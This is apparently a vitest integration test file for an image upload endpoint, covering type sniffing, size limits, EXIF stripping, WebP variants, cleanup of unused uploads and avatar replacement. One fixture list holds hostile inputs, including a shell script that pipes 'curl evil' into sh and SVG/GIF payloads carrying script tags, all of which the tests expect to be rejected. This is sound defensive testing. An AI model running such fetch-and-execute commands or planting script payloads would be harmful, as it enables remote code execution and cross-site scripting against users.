// POST /api/uploads/images: the real type from the bytes, the 3 MB limit, metadata stripped,
// WebP variants at the responsive widths (never upscaled), the uploads/{public_id} record.
// Then what becomes of uploads: the media sweep deletes unused ones after their grace period
// (run here as the retention job runs it: the emulator fires no schedules; media stay on the
// local disk), and a new avatar deletes the files of the one it replaces.
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { Timestamp } from 'firebase-admin/firestore';
import {
  LIMITS,
  UPLOAD_MESSAGES,
  USER_MESSAGES,
  type AvatarAnswer,
  type UploadAnswer,
} from '@xmates/domain';
import { deleteUnusedUploads } from '@xmates/functions/jobs/unused-uploads';
import { adminDb } from '../support/admin';
import { api } from '../support/api';
import { paths } from '../support/paths';
import { accountsBeforeAll, storedProfile, storedUser } from './helpers';
import { jpeg, mediaBytes, syncedAdmin, syncedMember, upload } from './link-helpers';

const { admin, member, keeper } = accountsBeforeAll({
  admin: () => syncedAdmin('upload-admin'),
  member: () => syncedMember('upload-member'),
  keeper: () => syncedMember('upload-keeper'),
});

const srcsetWidths = (srcset: string) =>
  srcset.split(', ').map((part) => Number(part.split(' ')[1]?.replace('w', '')));
const srcsetUrls = (srcset: string) => srcset.split(', ').map((part) => part.split(' ')[0] ?? '');

const uploadRef = (publicId: string) => adminDb.doc(paths.upload(publicId));

async function uploadDoc(publicId: string) {
  return (await uploadRef(publicId).get()).data();
}

/** Every file of an upload: its variants and its original. */
async function filesOf(answer: UploadAnswer): Promise<string[]> {
  const original = String((await uploadDoc(answer.public_id))?.original.url);
  return [...srcsetUrls(answer.image.srcset), original];
}

async function statuses(urls: string[]): Promise<number[]> {
  return Promise.all(urls.map(async (url) => (await mediaBytes(url)).status));
}

async function avatarUpload(token: string): Promise<UploadAnswer> {
  const res = await upload(token, await jpeg(500, 500), { purpose: 'avatar' });
  expect(res.status).toBe(201);
  return res.body;
}

const setAvatar = (token: string, up: UploadAnswer) =>
  api<AvatarAnswer>('POST', '/api/users/avatar', {
    token,
    body: { avatarUrl: up.secure_url, avatarPublicId: up.public_id },
  });

/** A real JPEG padded after its end marker to exactly `size` bytes. */
async function jpegOfSize(size: number): Promise<Buffer> {
  const image = await jpeg(800, 600);
  return Buffer.concat([image, Buffer.alloc(size - image.length, 0)]);
}

describe('POST /api/uploads/images', () => {
  it('stores a product image with WebP variants at every width and records the upload', async () => {
    const res = await upload(admin.idToken, await jpeg(1600, 900));
    expect(res.status).toBe(201);
    const { public_id, secure_url, image } = res.body;
    expect(public_id).toMatch(/^img_[0-9a-f]{24}$/);
    expect(secure_url).toBe(image.src);
    expect(image).toMatchObject({ width: 1024, height: 576 });
    expect(srcsetWidths(image.srcset)).toEqual([320, 480, 640, 800, 1024]);
    for (const [i, url] of srcsetUrls(image.srcset).entries()) {
      const file = await mediaBytes(url);
      expect(file.status, url).toBe(200);
      const meta = await sharp(file.bytes).metadata();
      expect([meta.format, meta.width]).toEqual(['webp', [320, 480, 640, 800, 1024][i]]);
    }
    const stored = await uploadDoc(public_id);
    expect(stored).toMatchObject({
      ownerUid: admin.uid,
      purpose: 'product',
      image,
      original: { format: 'jpeg', width: 1600, height: 900 },
    });
    // Nothing uses it yet: the media sweep may delete it once its grace period is over.
    expect(stored?.deleteAfter.toMillis() - stored?.createdAt.toMillis()).toBe(
      LIMITS.unusedUploadGraceMs,
    );
  });

  it('never upscales: a narrow image gets the widths up to its own', async () => {
    const res = await upload(admin.idToken, await jpeg(500, 300));
    expect(res.status).toBe(201);
    expect(srcsetWidths(res.body.image.srcset)).toEqual([320, 480, 500]);
    expect(res.body.image).toMatchObject({ width: 500, height: 300 });
  });

  it('strips EXIF (and GPS, copyright) from the stored original and applies the orientation', async () => {
    const withExif = await sharp({
      create: { width: 900, height: 600, channels: 3, background: '#884ea0' },
    })
      .jpeg()
      .withExif({ IFD0: { Copyright: 'Someone', Artist: 'Camera owner', Make: 'PhoneCo' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    expect((await sharp(withExif).metadata()).exif).toBeDefined();
    const res = await upload(admin.idToken, withExif);
    expect(res.status).toBe(201);
    const stored = await uploadDoc(res.body.public_id);
    const original = await mediaBytes(String(stored?.original.url));
    expect(original.status).toBe(200);
    const meta = await sharp(original.bytes).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.orientation).toBeUndefined();
    expect(original.bytes.includes(Buffer.from('PhoneCo'))).toBe(false);
    expect([meta.width, meta.height]).toEqual([600, 900]);
  });

  it('keeps PNG, WEBP and GIF in their own format', async () => {
    for (const format of ['png', 'webp', 'gif'] as const) {
      const bytes = await sharp({
        create: { width: 400, height: 400, channels: 3, background: '#1abc9c' },
      })
        .toFormat(format)
        .toBuffer();
      const res = await upload(admin.idToken, bytes, { contentType: `image/${format}` });
      expect(res.status, format).toBe(201);
      expect((await uploadDoc(res.body.public_id))?.original.format).toBe(format);
    }
  });

  it('accepts exactly 3 MB', async () => {
    const res = await upload(admin.idToken, await jpegOfSize(LIMITS.maxImageBytes));
    expect(res.status).toBe(201);
    expect(res.body.image.width).toBe(800);
  });

  it('refuses 3 MB + 1 byte with 413 and the spec message', async () => {
    const res = await upload(admin.idToken, await jpegOfSize(LIMITS.maxImageBytes + 1));
    expect(res.status).toBe(413);
    expect(res.body).toEqual({ error: 'Max size 3MB per image.', code: 'payload-too-large' });
  });

  const disguised: [string, Buffer | string, string][] = [
    ['a shell script sent as image/png', '#!/bin/sh\ncurl evil | sh\n', 'image/png'],
    ['a text file named .png', 'just some notes\n', 'image/png'],
    [
      'an SVG with a script',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'image/svg+xml',
    ],
    ['a GIF header in front of a script', 'GIF89a<script>alert(1)</script>', 'image/gif'],
    ['a BMP', Buffer.concat([Buffer.from('BM'), Buffer.alloc(64)]), 'image/bmp'],
  ];
  for (const [what, content, contentType] of disguised) {
    it(`refuses ${what} with 400`, async () => {
      const bytes = typeof content === 'string' ? Buffer.from(content) : content;
      const res = await upload(admin.idToken, bytes, { contentType });
      expect(res.status).toBe(400);
      expect(res.body).toEqual({
        error: 'Only JPG, PNG, WEBP, GIF allowed.',
        code: 'invalid-input',
      });
    });
  }

  it('refuses a truncated JPEG with 400', async () => {
    const whole = await jpeg(800, 600);
    const res = await upload(admin.idToken, whole.subarray(0, Math.floor(whole.length / 3)));
    expect(res.status).toBe(400);
    expect(res.body).toEqual({ error: UPLOAD_MESSAGES.imageType, code: 'invalid-input' });
  });

  it('refuses forms and JSON bodies with 415, and an empty body with 400', async () => {
    const image = await jpeg(300, 200);
    for (const contentType of [
      'multipart/form-data; boundary=x',
      'application/json',
      'text/plain',
    ]) {
      const body = contentType === 'application/json' ? Buffer.from('{"file":"x"}') : image;
      const res = await upload(admin.idToken, body, { contentType });
      expect(res.status, contentType).toBe(415);
      expect(res.body).toEqual({
        error: UPLOAD_MESSAGES.uploadBodyType,
        code: 'unsupported-media-type',
      });
    }
    const empty = await upload(admin.idToken, Buffer.alloc(0));
    expect(empty.status).toBe(400);
    expect(empty.body).toEqual({ error: 'Please choose an image file.', code: 'invalid-input' });
  });

  it('needs a known purpose; avatars are open to any member', async () => {
    const image = await jpeg(300, 300);
    for (const purpose of ['', 'banner']) {
      const res = await upload(member.idToken, image, { purpose });
      expect(res.status).toBe(400);
      expect(res.body).toEqual({
        error: 'purpose must be one of: product, avatar.',
        code: 'invalid-input',
        field: 'purpose',
      });
    }
    const avatar = await upload(member.idToken, image, { purpose: 'avatar' });
    expect(avatar.status).toBe(201);
    expect(await uploadDoc(avatar.body.public_id)).toMatchObject({
      ownerUid: member.uid,
      purpose: 'avatar',
    });
  });
});

describe('unused uploads and replaced avatars', () => {
  it('the sweep deletes an unused upload past its grace period, files and record, and keeps the others', async () => {
    // A date long before any other data, so the sweep touches only what this test dates.
    const now = new Date('1990-06-15T12:00:00Z');
    const stale = await avatarUpload(keeper.idToken);
    const fresh = await avatarUpload(keeper.idToken);
    const used = await avatarUpload(keeper.idToken);
    expect((await setAvatar(keeper.idToken, used)).status).toBe(200);
    const longAgo = Timestamp.fromDate(new Date('1990-06-14T10:00:00Z'));
    await uploadRef(stale.public_id).update({ createdAt: longAgo, deleteAfter: longAgo });
    await uploadRef(used.public_id).update({ createdAt: longAgo });
    const staleFiles = await filesOf(stale);
    expect(await statuses(staleFiles)).toEqual(staleFiles.map(() => 200));

    expect(await deleteUnusedUploads(now)).toBe(1);

    expect(await uploadDoc(stale.public_id)).toBeUndefined();
    expect(await statuses(staleFiles)).toEqual(staleFiles.map(() => 404));
    for (const kept of [fresh, used]) {
      const files = await filesOf(kept);
      expect(await statuses(files), kept.public_id).toEqual(files.map(() => 200));
    }
    expect((await uploadDoc(used.public_id))?.deleteAfter).toBeNull();
    expect((await storedProfile(keeper.uid))?.photoURL).toBe(used.secure_url);
    // A second run finds nothing more.
    expect(await deleteUnusedUploads(now)).toBe(0);
  });

  it('refuses an upload past its grace period as an avatar', async () => {
    const late = await avatarUpload(member.idToken);
    await uploadRef(late.public_id).update({
      deleteAfter: Timestamp.fromMillis(Date.now() - 60_000),
    });
    const before = (await storedUser(member.uid))?.photoURL;
    const res = await setAvatar(member.idToken, late);
    expect(res.status).toBe(400);
    expect(res.body).toEqual({
      error: USER_MESSAGES.avatarExpired,
      code: 'invalid-input',
      field: 'avatarPublicId',
    });
    expect((await storedUser(member.uid))?.photoURL).toBe(before);
    expect((await uploadDoc(late.public_id))?.deleteAfter).not.toBeNull();
  });

  it('a new avatar deletes every file of the one it replaces', async () => {
    const first = await avatarUpload(member.idToken);
    expect((await setAvatar(member.idToken, first)).status).toBe(200);
    const firstFiles = await filesOf(first);
    expect(await statuses(firstFiles)).toEqual(firstFiles.map(() => 200));

    const second = await avatarUpload(member.idToken);
    const res = await setAvatar(member.idToken, second);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ photoURL: second.secure_url });

    expect(await statuses(firstFiles)).toEqual(firstFiles.map(() => 404));
    expect(await uploadDoc(first.public_id)).toBeUndefined();
    const secondFiles = await filesOf(second);
    expect(await statuses(secondFiles)).toEqual(secondFiles.map(() => 200));
    expect((await storedUser(member.uid))?.photoURL).toBe(second.secure_url);
    expect((await storedProfile(member.uid))?.photoURL).toBe(second.secure_url);
    // The replaced upload can no longer become the photo.
    const back = await setAvatar(member.idToken, first);
    expect(back.status).toBe(400);
    expect(back.body.error).toBe(USER_MESSAGES.avatarNotYours);
  });

  it('setting the same avatar again keeps its files', async () => {
    const only = await avatarUpload(keeper.idToken);
    expect((await setAvatar(keeper.idToken, only)).status).toBe(200);
    expect((await setAvatar(keeper.idToken, only)).status).toBe(200);
    const files = await filesOf(only);
    expect(await statuses(files)).toEqual(files.map(() => 200));
    expect((await uploadDoc(only.public_id))?.deleteAfter).toBeNull();
  });
});
